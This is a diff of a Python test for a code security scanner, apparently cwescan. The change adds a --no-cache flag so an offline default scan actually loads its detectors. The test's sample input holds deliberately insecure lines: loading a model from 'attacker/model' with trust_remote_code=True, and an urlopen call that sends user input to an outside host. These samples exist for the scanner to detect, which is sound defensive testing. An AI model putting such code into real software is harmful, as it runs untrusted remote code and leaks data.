@@ -76,8 +76,9 @@ def test_default_scan_completes_offline(no_network, tmp_path):
         "m = AutoModel.from_pretrained('attacker/model', trust_remote_code=True)\n"
         "import urllib.request\nurllib.request.urlopen('http://example.org/' + input())\n")
     names, _ = default_detectors()
+    # --no-cache: a warm result cache would skip loading the model this test is about
     result = CliRunner().invoke(app, ["scan", str(target), "--format", "json", "--jobs", "1",
-                                      "--fail-on", "none"])
+                                      "--fail-on", "none", "--no-cache"])
     assert result.exit_code == 0, result.output
     assert no_network == [], f"cwescan tried to reach the network: {no_network}"
     # the default set really ran (the shipped SLM too when it is installed)
